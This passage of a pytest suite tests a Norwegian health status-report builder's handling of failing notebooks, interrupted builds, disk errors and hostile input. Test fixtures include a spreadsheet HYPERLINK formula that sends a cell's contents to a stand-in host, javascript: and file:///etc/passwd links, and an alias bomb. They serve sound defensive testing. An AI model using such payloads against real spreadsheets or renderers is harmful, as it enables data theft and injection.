    assert (first["indicator"], first["period"], first["value"]) == ("helsefellesskap_etablert",
                                                                      "2023", 19.0)


@pytest.fixture(scope="module")
def raising(published_html, tmp_path_factory):
    """A real build where akuttmedisin raises in a code cell inserted after the parameters cell."""
    proj = tmp_path_factory.mktemp("raising") / "project"
    shutil.copytree(published_html, proj, symlinks=True)
    before = snapshot(proj)
    path = proj / "notebooks" / "03_akuttmedisin.ipynb"
    nb = nbformat.read(path, as_version=4)
    at = next(i for i, c in enumerate(nb.cells) if "parameters" in c.metadata.get("tags", [])) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell('raise ValueError("testfeil")'))
    nbformat.write(nb, path)
    return proj, before, at + 1, run_build(proj, "--format", "html")  # cell number as in JupyterLab


def test_notebook_that_raises(raising):
    """A chapter that raises: named with cell and exception, the others still run, exit 4, the
    executed notebook kept beside the edition in output/2026.failed/, the published report
    untouched."""
    proj, before, _, result = raising
    assert result.returncode == 4, result.stderr
    assert "kapittel 'akuttmedisin'" in result.stderr
    assert re.search(r"celle \d+: ValueError: testfeil", result.stderr), result.stderr
    assert 'i linjen: raise ValueError("testfeil")' in result.stderr
    assert "Ingen rapport publisert" in result.stderr and "1 kapittel(er) feilet" in result.stderr
    others = [p.stem.partition("_")[2] for p in sorted((proj / "notebooks").glob("[0-9][0-9]_*.ipynb"))]
    others.remove("akuttmedisin")
    for name in others:
        assert re.search(rf"^\s+{name}\s+(fra cache|ferdig)", result.stdout, re.M), result.stdout
    assert re.search(r"^\s+akuttmedisin\s+FEILET", result.stdout, re.M), result.stdout
    assert not (proj / "output" / EDITION / "failed").exists()
    failed = proj / "output" / f"{EDITION}.failed"
    assert (failed / "03_akuttmedisin.ipynb").is_file()
    executed = nbformat.read(failed / "03_akuttmedisin.ipynb", as_version=4)
    assert any(o.get("ename") == "ValueError" for c in executed.cells for o in c.get("outputs", []))
    assert "Traceback (most recent call last)" not in result.stderr
    assert snapshot(proj) == before


def test_notebook_error_message_is_exact(raising):
    proj, _, cell, result = raising
    first = next(ln for ln in result.stderr.splitlines() if ln.startswith("FEIL: "))
    assert first == f"FEIL: kapittel 'akuttmedisin', celle {cell}: ValueError: testfeil"
    log = re.search(r"full feilmelding: (\S+)", result.stderr).group(1)
    assert Path(log).is_file(), "the log named in the message should exist (output/2026.failed/)"


# -- hostile input and faults that need more than one call --------------------------------------

def _wait_for_kernel(project, proc, timeout=120):
    """Wait until a chapter's kernel runs (a process with its folder in notebooks/)."""
    notebooks = str(project / "notebooks")
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert proc.poll() is None, proc.communicate()
        for other in psutil.process_iter(["cwd"]):
            if (other.info["cwd"] or "") == notebooks and other.pid != proc.pid:
                return
        time.sleep(0.3)
    raise AssertionError("ingen kjerne startet")


@pytest.mark.parametrize("how", ["ctrl-c", "sigterm", "kill-9"])
def test_stopping_a_build_leaves_nothing_running(how, proj):
    """A chapter that never ends: Ctrl-C (SIGINT to the whole process group, as a terminal
    sends it) and SIGTERM stop the build within seconds with exit 130; kill -9 of build.py
    alone takes its workers and kernels with it (parent-death signal). Nothing is left
    running and the published report is untouched."""
    before = snapshot(proj)
    add_cell(proj, "while True:\n    pass")
    proc = subprocess.Popen([sys.executable, "build.py", "--chapter", "finansiering", "--format",
                             "html", "--force"], cwd=proj, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True,
                            preexec_fn=terminal_signals)
    try:
        _wait_for_kernel(proj, proc)
        started = time.monotonic()
        if how == "ctrl-c":
            os.killpg(proc.pid, signal.SIGINT)
        else:
            proc.send_signal(signal.SIGTERM if how == "sigterm" else signal.SIGKILL)
        out, err = proc.communicate(timeout=20)
        assert time.monotonic() - started < 10
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    if how == "kill-9":
        assert proc.returncode == -signal.SIGKILL
    else:
        assert proc.returncode == 130, err
        assert "Avbrutt. Rapporten i output/ er uendret." in err
        assert "Traceback" not in err + out
    assert leftovers(proj) == []
    assert snapshot(proj) == before


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests = []

    def do_GET(self):  # noqa: N802 - http.server's name
        _Recorder.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(PNG_7x3)

    def log_message(self, *args):
        pass


PNG_7x3 = bytes.fromhex(  # a 7×3 red PNG: recognisable if it were ever embedded
    "89504e470d0a1a0a0000000d4948445200000007000000030802000000d0a182920000001249444154789c63f8"
    "cfc08089b008e1140500c79614ec754235b00000000049454e44ae426082")


def test_renderer_fetches_nothing_and_links_only_https(proj, monkeypatch, capsys, tmp_path):
    """A narrative names an image on a live HTTP server on 127.0.0.1, a file: image and
    javascript:, http: and data: links. The build requests nothing, the HTML has none of them,
    and the PDF has no external image and no URI action but https:."""
    from pypdf import PdfReader

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}"
    secret = tmp_path / "hemmelig.png"
    secret.write_bytes(PNG_7x3)
    _Recorder.requests = []
    try:
        before = snapshot(proj)
        narrative(proj, f"Vurdering.\n\n![nett]({url}/p.png) ![fil]({secret.as_uri()}) "
                        f"[Klikk](javascript:alert(7)) [side]({url}/side) [data](data:text/html,x) "
                        "[trygg](https://www.helsedirektoratet.no/)\n", chapter="finansiering")
        result = run_cli(proj, ("--chapter", "finansiering", "--format", "html,pdf"), monkeypatch,
                         capsys)
        # The renderer itself, given HTML that names them directly (not through a narrative):
        from statusrapport.render import pdf

        raw = tmp_path / "raw.pdf"
        pdf.write(f'<link rel="stylesheet" href="{url}/s.css"><p><img src="{url}/p.png">'
                  f'<img src="{secret.as_uri()}"><a href="javascript:alert(7)">j</a> '
                  f'<a href="{url}/side">h</a> <a href="file:///etc/passwd">f</a> '
                  '<a href="https://www.helsedirektoratet.no/">t</a></p>', raw, "test")
    finally:
        server.shutdown()
    check(result, [], 0, before, proj)
    assert _Recorder.requests == []
    draft = proj / "output" / f"{EDITION}-utkast"
    html = (draft / "statusrapport.html").read_text(encoding="utf-8")
    for bad in ("javascript:", "file:", url, "data:text/html"):
        assert bad not in html, bad
    assert 'href="https://www.helsedirektoratet.no/"' in html and "[bilde: nett]" in html
    for path in (draft / "statusrapport.pdf", raw):
        reader = PdfReader(path)
        uris = [annot.get_object()["/A"]["/URI"] for page in reader.pages
                for annot in page.get("/Annots") or [] if "/A" in annot.get_object()
                and annot.get_object()["/A"].get("/S") == "/URI"]
        assert uris and all(u.startswith("https:") for u in uris), (path, uris)
        sizes = {(img.image.width, img.image.height) for page in reader.pages for img in page.images}
        assert (7, 3) not in sizes, path


def test_formulas_in_downloads_are_text(proj, monkeypatch, capsys):
    """A tiltak comment that is a formula stays text in tabeller.xlsx and the CSV files
    (OWASP CSV injection: a leading apostrophe); numbers stay numbers."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://x/?"&A1,"Klikk")'
    edit_row(proj, "tiltak.csv", 2, hashed=False, comment=formula)
    before = snapshot(proj)
    result = run_cli(proj, ("--chapter", "samhandling", "--format", "html"), monkeypatch, capsys)
    check(result, [], 0, before, proj)
    draft = proj / "output" / f"{EDITION}-utkast"
    cells = [c for ws in load_workbook(draft / "tabeller.xlsx").worksheets
             for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + formula for c in cells)
    assert any(isinstance(c.value, (int, float)) for c in cells)
    text = "".join(p.read_text(encoding="utf-8") for p in (draft / "data").glob("*.csv"))
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "disken er full; frigjør plass"),
                                         (errno.EROFS, "filsystemet er skrivebeskyttet; bruk en "
                                                       "annen utmappe med --output")])
def test_disk_full_or_read_only_is_a_message(code, words, proj, monkeypatch, capsys):
    from statusrapport.render import publish

    def refuse(output_dir):
        raise OSError(code, os.strerror(code), str(output_dir))

    before = snapshot(proj)
    (proj / "data" / "tiltak.csv").write_text((proj / "data" / "tiltak.csv").read_text(
        encoding="utf-8") + "\n", encoding="utf-8")  # something changed, so the build runs
    monkeypatch.setattr(publish, "scratch_dir", refuse)
    result = run_cli(proj, ("--format", "html"), monkeypatch, capsys)
    check(result, [f"FEIL: {proj / 'output'}: {words}", "Rapporten i output/ er uendret"], 6,
          before, proj)


def test_unexpected_error_is_a_message_with_a_log(proj, monkeypatch, capsys):
    from statusrapport.build import hashing

    def broken(*args, **kwargs):
        raise RuntimeError("noe helt uventet")

    before = snapshot(proj)
    monkeypatch.setattr(hashing.Inputs, "read", broken)
    result = run_cli(proj, ("--format", "html"), monkeypatch, capsys)
    check(result, ["FEIL: uventet feil (RuntimeError: noe helt uventet)", "Detaljene står i "], 1,
          before, proj)
    log = re.search(r"Detaljene står i (\S+);", result.stderr).group(1)
    assert "Traceback" in Path(log).read_text(encoding="utf-8")
    Path(log).unlink()


def test_alias_bomb_is_refused_quickly(proj, monkeypatch, capsys):
    alias_bomb(proj)
    start = time.monotonic()
    result = run_cli(proj, ("validate",), monkeypatch, capsys)
    assert result.returncode == 3 and time.monotonic() - start < 20
    assert len(result.stderr.splitlines()) < 60
